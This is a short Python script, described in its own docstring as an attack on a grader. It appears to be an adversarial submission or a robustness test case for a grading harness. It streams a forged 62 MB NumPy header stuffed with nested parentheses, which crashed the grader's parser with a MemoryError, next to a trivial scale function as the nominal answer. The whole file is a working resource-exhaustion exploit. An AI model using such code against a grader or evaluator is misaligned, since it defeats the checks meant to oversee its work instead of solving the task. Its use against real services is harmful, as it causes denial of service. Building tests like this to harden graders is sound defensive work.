"""Attack: one array frame whose .npy header claims (and holds) 62 MB: parsed by NumPy's header
reader, this drove the grader to a MemoryError at 3.7 GB."""
import os
import struct

NAMES = ["a", "b"]
SIZE = 62 * 2**20


def write(data):
    view = memoryview(data)
    while view:
        view = view[os.write(3, view):]


header = b'{"type": "case", "name": "scale \\u00b7 small", "arrays": ["out"]}'
write(struct.pack(">cI", b"H", len(header)) + header)
write(struct.pack(">cI", b"A", 12 + SIZE) + b"\x93NUMPY\x02\x00" + struct.pack("<I", SIZE))
chunk = b"{'descr': " + b"(" * (2**20 - 10)
for _ in range(SIZE // len(chunk)):
    write(chunk)
write(b" " * (SIZE % len(chunk)))


def scale(x, k):
    return x * k
